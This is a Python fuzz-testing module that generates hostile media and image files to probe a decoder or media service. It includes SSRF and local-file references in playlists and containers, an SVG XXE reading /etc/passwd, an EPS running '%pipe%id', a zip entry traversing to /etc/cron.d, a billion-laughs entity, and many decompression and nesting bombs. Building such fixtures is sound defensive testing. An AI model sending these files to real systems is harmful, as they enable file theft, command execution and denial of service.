"""Files of kinds that nobody would send by mistake. Each is made here, and small.

Some name another file or address: a decoder that follows them reads what it must not, or has a
service make requests for somebody else.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

from PIL import Image

from fuzz import bombs

_NESTED = 10_000
_STRIPS = (273, 278, 279)
"""Tags of a TIFF file that is not in tiles."""


# files that name others


def references(address: str, path: str) -> Mapping[str, bytes]:
    """Return files that name an address or a file, by the name of their format.

    Args:
        address: `http://host:port/name`.
        path: Absolute, of a recording.
    """
    host, port = address.split("/")[2].split(":")
    sdp = (
        f"v=0\r\no=- 0 0 IN IP4 {host}\r\ns=x\r\nc=IN IP4 {host}\r\nt=0 0\r\n"
        f"m=video {port} RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n"
    )
    playlist = "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{}\n#EXT-X-ENDLIST\n"
    texts = {
        "hls-address": playlist.format(address),
        "hls-file": playlist.format(f"file://{path}"),
        "hls-key": playlist.format(path).replace(
            "#EXTINF", f'#EXT-X-KEY:METHOD=AES-128,URI="{address}"\n#EXTINF'
        ),
        "concat": f"ffconcat version 1.0\nfile '{path}'\nfile '{address}'\n",
        "sdp": sdp,
        "dash": f'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period>'
        f"<BaseURL>{address}</BaseURL><AdaptationSet><Representation id='1' bandwidth='1'/>"
        "</AdaptationSet></Period></MPD>",
        "asx": f'<ASX version="3"><Entry><Ref href="{address}"/></Entry></ASX>',
        "asf-reference": f"[Reference]\nRef1={address}\n",
        "smooth": f'<SmoothStreamingMedia MajorVersion="2"><Url>{address}</Url>'
        "</SmoothStreamingMedia>",
        "vobsub": "# VobSub index file, v7 (do not modify this line!)\nid: en, index: 0\n"
        f"file: {path}\ntimestamp: 00:00:00:000, filepos: 000000000\n",
        "svg": '<?xml version="1.0"?><!DOCTYPE s [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{address}"/>&e;</svg>',
        "eps": "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 64 64\n%%EndComments\n"
        f"({path}) (r) file 100 string readstring\n(%pipe%id) (r) file\nshowpage\n%%EOF\n",
        "pdf": f"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI({address})>>>>endobj\n"
        "trailer<</Root 1 0 R>>\n%%EOF\n",
    }
    return {
        **{name: text.encode() for name, text in texts.items()},
        "mov-dref": _mov_elsewhere(_box(b"url ", struct.pack(">I", 0) + path.encode() + b"\0")),
        "mov-dref-address": _mov_elsewhere(
            _box(b"url ", struct.pack(">I", 0) + address.encode() + b"\0")
        ),
        "mov-alias": _mov_elsewhere(_alias(path)),
        "mov-rmra": _box(
            b"moov",
            _box(
                b"rmra",
                _box(
                    b"rmda",
                    _box(
                        b"rdrf",
                        struct.pack(">I4sI", 0, b"url ", len(address) + 1)
                        + address.encode()
                        + b"\0",
                    ),
                ),
            ),
        ),
    }


def _box(name: bytes, body: bytes = b"") -> bytes:
    return struct.pack(">I", 8 + len(body)) + name + body


def _full(name: bytes, body: bytes) -> bytes:
    return _box(name, bytes(4) + body)


def _alias(path: str) -> bytes:
    """Return the `alis` entry of a data reference, which names a file of a disk."""
    head = bytes(4) + struct.pack(">HH", 150, 2) + b"\0\0" + bytes(28) + bytes(12)
    name = path.rsplit("/", 1)[-1].encode()[:63]
    head += bytes([len(name)]) + name.ljust(63, b"\0") + bytes(16) + struct.pack(">hh", 1, 1)
    head += bytes(16)
    for kind, text in ((2, path), (18, path)):
        data = text.encode()
        head += struct.pack(">hH", kind, len(data)) + data + b"\0" * (len(data) % 2)
    return _box(b"alis", struct.pack(">I", 0) + head + struct.pack(">h", -1))


def _mov_elsewhere(reference: bytes) -> bytes:
    """Return a QuickTime file whose pictures are in another file."""
    return _mov(_full(b"dref", struct.pack(">I", 1) + reference), samples=2)


def _mov(
    dref: bytes | None = None,
    *,
    samples: int,
    edits: bytes = b"",
    more: bytes = b"",
    codec: bytes = b"jpeg",
    said: int | None = None,
) -> bytes:
    dref = dref or _full(b"dref", struct.pack(">I", 1) + _box(b"url ", struct.pack(">I", 1)))
    entry = _box(
        codec,
        bytes(6)
        + struct.pack(">H", 1)
        + bytes(16)
        + struct.pack(">HHIIIH", 64, 64, 0x480000, 0x480000, 0, 1)
        + bytes(32)
        + struct.pack(">Hh", 24, -1),
    )
    said = samples if said is None else said
    table = _box(
        b"stbl",
        _full(b"stsd", struct.pack(">I", 1) + entry)
        + _full(b"stts", struct.pack(">III", 1, said, 40))
        + _full(b"stsc", struct.pack(">IIII", 1, 1, said, 1))
        + _full(b"stsz", struct.pack(">II", 100, said))
        + _full(b"stco", struct.pack(">II", 1, 48)),
    )
    media = _box(
        b"mdia",
        _full(b"mdhd", struct.pack(">IIIIHH", 0, 0, 1000, 40 * said % 2**32, 0, 0))
        + _full(b"hdlr", b"mhlrvide" + bytes(13))
        + _box(b"minf", _full(b"vmhd", bytes(8)) + _box(b"dinf", dref) + table),
    )
    matrix = struct.pack(">9I", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)
    track = _box(
        b"trak",
        _full(b"tkhd", struct.pack(">IIIII", 0, 0, 1, 0, 1000) + bytes(16) + matrix + bytes(8))
        + edits
        + media,
    )
    return _box(b"ftyp", b"qt  \0\0\0\0qt  ") + _box(b"moov", track + more)


# containers


def _nested_boxes() -> bytes:
    content = b""
    for _ in range(_NESTED):
        content = _box(b"moov", content)
    return _box(b"ftyp", b"isom\0\0\0\0") + content


def _many_edits() -> bytes:
    """Return a file whose edit list has every picture many times."""
    count = 100_000
    entries = struct.pack(">IiI", 40, 0, 0x10000) * count
    return _mov(
        samples=50_000, edits=_box(b"edts", _full(b"elst", struct.pack(">I", count) + entries))
    )


def _endless_fragment() -> bytes:
    """Return a fragment of 2 thousand million pictures that need no bytes to be listed."""
    fragment = _box(
        b"moof",
        _full(b"mfhd", struct.pack(">I", 1))
        + _box(
            b"traf",
            _box(b"tfhd", struct.pack(">III", 0x38, 1, 40) + struct.pack(">II", 100, 0))
            + _full(b"trun", struct.pack(">I", 2**31 - 1)),
        ),
    )
    extends = _box(b"mvex", _full(b"trex", struct.pack(">IIIII", 1, 1, 40, 100, 0)))
    return _mov(samples=0, more=extends) + fragment + _box(b"mdat", bytes(1000))


def _packed_header() -> bytes:
    """Return a QuickTime file whose header is packed, and says that it unpacks to 4 GB."""
    packed = zlib.compress(bytes(50_000_000), 9)
    cmov = _box(b"dcom", b"zlib") + _box(b"cmvd", struct.pack(">I", 2**32 - 1) + packed)
    return _box(b"ftyp", b"qt  \0\0\0\0qt  ") + _box(b"moov", _box(b"cmov", cmov))


def _ebml(number: int, body: bytes, *, size: int | None = None) -> bytes:
    name = number.to_bytes((number.bit_length() + 7) // 8, "big")
    return name + ((1 << 56) | (len(body) if size is None else size)).to_bytes(8, "big") + body


_UNKNOWN = (1 << 56) - 1


def _matroska(block: bytes, *, encoding: bytes = b"", before: bytes = b"") -> bytes:
    head = _ebml(
        0x1A45DFA3, _ebml(0x4282, b"matroska") + _ebml(0x4287, b"\x04") + _ebml(0x4285, b"\x02")
    )
    video = _ebml(0xE0, _ebml(0xB0, b"\0\x40") + _ebml(0xBA, b"\0\x40"))
    track = _ebml(0xD7, b"\1") + _ebml(0x73C5, b"\1") + _ebml(0x83, b"\1")
    track += _ebml(0x86, b"V_MJPEG") + video + encoding
    cluster = _ebml(0x1F43B675, _ebml(0xE7, b"\0") + block * 20)
    return head + _ebml(
        0x18538067, before + _ebml(0x1654AE6B, _ebml(0xAE, track)) + cluster, size=_UNKNOWN
    )


def _laced() -> bytes:
    """Return blocks of 256 frames whose lengths run below zero."""
    return _matroska(_ebml(0xA3, b"\x81\0\0\x86\xff" + b"\x41\x00" + b"\x20\x01" * 253 + bytes(64)))


def _packed_blocks() -> bytes:
    """Return blocks that unpack to a thousand times their size."""
    packed = zlib.compress(bytes(100_000_000), 9)
    compression = _ebml(0x5034, _ebml(0x4254, b"\0"))
    encoding = _ebml(0x6D80, _ebml(0x6240, _ebml(0x5033, b"\0") + compression))
    return _matroska(_ebml(0xA3, b"\x81\0\0\x80" + packed), encoding=encoding)


def _seeks_itself() -> bytes:
    """Return a file whose index of indexes says that it is itself the next one."""
    seek = _ebml(0x4DBB, _ebml(0x53AB, b"\x11\x4d\x9b\x74") + _ebml(0x53AC, b"\0"))
    return _matroska(_ebml(0xA3, b"\x81\0\0\x80" + bytes(50)), before=_ebml(0x114D9B74, seek * 200))


def _deep_script() -> bytes:
    """Return a Flash video whose description is objects in objects."""
    body = b"\x02\0\x0aonMetaData" + b"\x03\0\1a" * _NESTED
    tag = b"\x12" + len(body).to_bytes(3, "big") + bytes(7) + body
    return b"FLV\x01\x01\0\0\0\x09\0\0\0\0" + tag + struct.pack(">I", len(tag))


def _deep_lists() -> bytes:
    """Return an AVI file of lists in lists, each of which says that it is all of the file."""
    return b"RIFF\xff\xff\xff\x7fAVI " + b"LIST\xff\xff\xff\x7fhdrl" * _NESTED


def _index_of_itself() -> bytes:
    """Return an AVI file whose index of indexes has itself as its parts."""
    at, size = 12 + 8 + 4, 32
    index = struct.pack("<HBBI4sQI", 4, 0, 0, 1000, b"00dc", 0, 0)
    index += struct.pack("<QII", at, size, 100) * 1000
    strh = struct.pack(
        "<4s4sIHHIIIIIII4H", b"vids", b"MJPG", 0, 0, 0, 0, 1, 25, 0, 9, 0, 0, 0, 0, 64, 64
    )
    strf = struct.pack("<IiiHH4sIiiII", 40, 64, 64, 1, 24, b"MJPG", 64 * 64 * 3, 0, 0, 0, 0)

    def chunk(name: bytes, body: bytes) -> bytes:
        return name + struct.pack("<I", len(body)) + body

    stream = chunk(b"strh", strh) + chunk(b"strf", strf) + chunk(b"indx", index)
    head = chunk(b"avih", struct.pack("<14I", 40000, 0, 0, 0x10, 9, 0, 1, 0, 64, 64, 0, 0, 0, 0))
    lists = chunk(b"LIST", b"hdrl" + head + chunk(b"LIST", b"strl" + stream))
    return chunk(b"RIFF", b"AVI " + lists + chunk(b"LIST", b"movi" + chunk(b"00dc", bytes(64))))


def _transport_of_nothing() -> bytes:
    """Return a transport stream of empty packets alone."""
    return (b"G\x1f\xff\x10" + b"\xff" * 184) * 20_000


def _sizes_that_change() -> bytes:
    """Return pictures of H.264, each of another size than the one before."""
    return b"".join(
        bombs.h264(16 * (1 + number % 200), 16 * (1 + number * 7 % 200), pictures=1)[:400]
        for number in range(400)
    )


def _sound_with_cover() -> bytes:
    """Return an MP3 file whose cover says that it is 20,000 x 20,000 pixels."""
    cover = b"\0image/png\0\3\0" + bombs.png(20_000, 20_000, rows=1)

    def safe(number: int) -> bytes:
        return bytes(number >> shift & 0x7F for shift in (21, 14, 7, 0))

    frame = b"APIC" + safe(len(cover)) + bytes(2) + cover
    return b"ID3\4\0\0" + safe(len(frame)) + frame + (b"\xff\xfb\x90\0" + bytes(413)) * 50


# pictures


def _saved(kind: str, size: tuple[int, int] = (64, 64), **options: object) -> bytes:
    file = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(file, kind, **options)
    return file.getvalue()


def _tiff(*tags: tuple[int, int, int, int], following: int = 0, data: bytes = bytes(4096)) -> bytes:
    """Return a TIFF file of one directory, at 8; its data come after it.

    Args:
        tags: Number, type, count and value of each, besides those of a grey picture.
        following: Where the next directory is.
        data: Of the picture.
    """
    entries = {256: (3, 1, 64), 257: (3, 1, 64), 258: (3, 1, 8), 259: (3, 1, 1), 262: (3, 1, 1)}
    entries |= {273: (4, 1, 400), 277: (3, 1, 1), 278: (3, 1, 64), 279: (4, 1, len(data))}
    entries |= {number: (kind, count, value) for number, kind, count, value in tags}
    if 324 in entries:
        entries = {number: entry for number, entry in entries.items() if number not in _STRIPS}
    body = struct.pack("<H", len(entries)) + b"".join(
        struct.pack("<HHII", number, *entry) for number, entry in sorted(entries.items())
    )
    return (b"II*\0\x08\0\0\0" + body + struct.pack("<I", following)).ljust(400, b"\0") + data


def _exif(tags: bytes, count: int) -> bytes:
    return b"Exif\0\0II*\0\x08\0\0\0" + struct.pack("<H", count) + tags + bytes(4)


def _jpeg_with(*segments: tuple[int, bytes]) -> bytes:
    plain = _saved("JPEG")
    return (
        plain[:2]
        + b"".join(
            struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body for marker, body in segments
        )
        + plain[2:]
    )


def _exif_in_circles() -> bytes:
    """Return a JPEG file whose EXIF directories are each other's, with a preview that is itself."""
    pointers = struct.pack("<HHII", 0x0112, 3, 1, 6) + struct.pack("<HHII", 0x8769, 4, 1, 8)
    return _jpeg_with((0xE1, _exif(pointers + struct.pack("<HHII", 0xA005, 4, 1, 8), 3)))


def _many_pictures_in_one() -> bytes:
    """Return a JPEG file that lists ten thousand pictures, all of which are itself."""
    entries = struct.pack("<IIIHH", 0x030000, 100, 0, 0, 0) * 3000
    index = b"MPF\0II*\0\x08\0\0\0" + struct.pack("<H", 3)
    index += struct.pack("<HHI4s", 0xB000, 7, 4, b"0100")
    index += struct.pack("<HHII", 0xB001, 4, 1, 10_000)
    index += struct.pack("<HHII", 0xB002, 7, len(entries), 50) + bytes(4)
    return _jpeg_with((0xE2, index + entries))


def _many_segments() -> bytes:
    return _jpeg_with(*[(0xE2, b"ICC_PROFILE\0" + bytes([1, 255]) + bytes(40))] * 20_000)


def _many_chunks() -> bytes:
    text = (b"tEXt", b"Comment\0x")
    header = struct.pack(">IIBBBBB", 64, 64, 8, 0, 0, 0, 0)
    pixels = zlib.compress(bytes(65 * 64))
    return bombs._png(((b"IHDR", header), *[text] * 200_000, (b"IDAT", pixels), (b"IEND", b"")))


def _animated_png() -> bytes:
    """Return a PNG file that says that it has 4 thousand million pictures, out of order."""
    header = struct.pack(">IIBBBBB", 64, 64, 8, 0, 0, 0, 0)
    control = struct.pack(">IIIIIHHBB", 0, 64, 64, 0, 0, 1, 1, 0, 0)
    pixels = zlib.compress(bytes(65 * 64))
    return bombs._png(
        (
            (b"IHDR", header),
            (b"acTL", struct.pack(">II", 2**32 - 1, 0)),
            (b"fcTL", control),
            (b"IDAT", pixels),
            *[(b"fcTL", control), (b"fdAT", bytes(4) + pixels)] * 1000,
            (b"IEND", b""),
        )
    )


def _animated(kind: str) -> bytes:
    pictures = [Image.new("RGB", (64, 64), (number, 0, 0)) for number in range(50)]
    file = io.BytesIO()
    pictures[0].save(file, kind, save_all=True, append_images=pictures[1:])
    return file.getvalue()


def _webp_on(side: int) -> bytes:
    """Return an animated WebP file whose canvas is this large, and its pictures are small."""
    content = _animated("WEBP")
    at = content.index(b"VP8X") + 12
    return content[:at] + (side - 1).to_bytes(3, "little") * 2 + content[at + 6 :]


def _avif_of(width: int, height: int) -> bytes:
    """Return an AVIF file that says that its picture is this large."""
    content = _saved("AVIF")
    at = content.index(b"ispe") + 8
    return content[:at] + struct.pack(">II", width, height) + content[at + 8 :]


def _bmp_runs() -> bytes:
    """Return a BMP file of 10,000 x 10,000 pixels in runs that jump about."""
    runs = b"\0\2\xff\xff" * 20_000 + b"\0\1"
    head = struct.pack("<IiiHHIIiiII", 40, 10_000, 10_000, 1, 8, 1, len(runs), 0, 0, 256, 0)
    offset = 14 + 40 + 1024
    return (
        b"BM" + struct.pack("<IHHI", offset + len(runs), 0, 0, offset) + head + bytes(1024) + runs
    )


def _icon() -> bytes:
    picture = bombs.png(20_000, 20_000, rows=1)
    return b"\0\0\1\0\1\0" + struct.pack("<BBBBHHII", 0, 0, 0, 0, 1, 32, len(picture), 22) + picture


def _zip_bomb() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../etc/cron.d/x", bytes(50_000_000))
    return file.getvalue()


HOSTILE: Mapping[str, Callable[[], bytes]] = {
    "one-byte": lambda: b"\0",
    "text": lambda: b"The recording is on the other disk.\n" * 100,
    "subtitles": lambda: b"1\n00:00:00,000 --> 00:00:09,000\nHello\n\n" * 100,
    "laughs": lambda: (
        b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a "ha">'
        + b"".join(
            f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">'.encode() for n in range(9)
        )
        + b"]><svg>&j;</svg>"
    ),
    "zip": _zip_bomb,
    "photoshop": lambda: b"8BPS\0\1" + bytes(6) + struct.pack(">HIIHH", 3, 30_000, 30_000, 8, 3),
    "icon": _icon,
    "y4m": lambda: b"YUV4MPEG2 W65535 H65535 F25:1\nFRAME\n" + bytes(1000),
    "iso-disk": lambda: bytes(32768) + b"\1CD001\1" + bytes(2041),
    "mp4-nested": _nested_boxes,
    "mp4-64-bit": lambda: (
        _box(b"ftyp", b"isom\0\0\0\0") + struct.pack(">I4sQ", 1, b"moov", 2**63 - 1)
    ),
    "mov-edits": _many_edits,
    "mov-fragment": _endless_fragment,
    "mov-packed-header": _packed_header,
    "mov-tracks": lambda: (
        _box(b"ftyp", b"qt  \0\0\0\0qt  ") + _box(b"moov", _box(b"trak", _box(b"mdia")) * 50_000)
    ),
    "mkv-laced": _laced,
    "mkv-packed": _packed_blocks,
    "mkv-seeks-itself": _seeks_itself,
    "flv-nested": _deep_script,
    "avi-nested": _deep_lists,
    "avi-index": _index_of_itself,
    "ts-nothing": _transport_of_nothing,
    "h264-sizes": _sizes_that_change,
    "mp3-cover": _sound_with_cover,
    "tiff-circle": lambda: _tiff(following=8),
    "tiff-tiles": lambda: _tiff(
        (322, 4, 1, 2**31 - 1), (323, 4, 1, 2**31 - 1), (324, 4, 1, 400), (325, 4, 1, 4096)
    ),
    "tiff-strips": lambda: _tiff((278, 4, 1, 1), (273, 4, 2**32 - 1, 0), (279, 4, 2**32 - 1, 0)),
    "tiff-samples": lambda: _tiff((277, 3, 1, 65535), (258, 3, 65535, 8)),
    "tiff-deflate": lambda: _tiff(
        (256, 4, 1, 10_000),
        (257, 4, 1, 10_000),
        (278, 4, 1, 10_000),
        (259, 3, 1, 8),
        data=zlib.compress(bytes(10**8), 9),
    ),
    "jpeg-exif": _exif_in_circles,
    "jpeg-mpo": _many_pictures_in_one,
    "jpeg-segments": _many_segments,
    "jpeg-and-zip": lambda: _saved("JPEG") + _zip_bomb(),
    "png-chunks": _many_chunks,
    "png-animated": _animated_png,
    "webp-10000": lambda: _webp_on(10_000),
    "webp-16384": lambda: _webp_on(16_384),
    "avif-animated": lambda: _animated("AVIF"),
    "png-row": lambda: bombs.png(109_000_000, 1),
    "png-column": lambda: bombs.png(1, 109_000_000),
    "avif-65535": lambda: _avif_of(65535, 65535),
    "avif-other-size": lambda: _avif_of(9000, 9000),
    "bmp-runs": _bmp_runs,
}
"""Files of other kinds than were expected, or whose parts lead nowhere."""
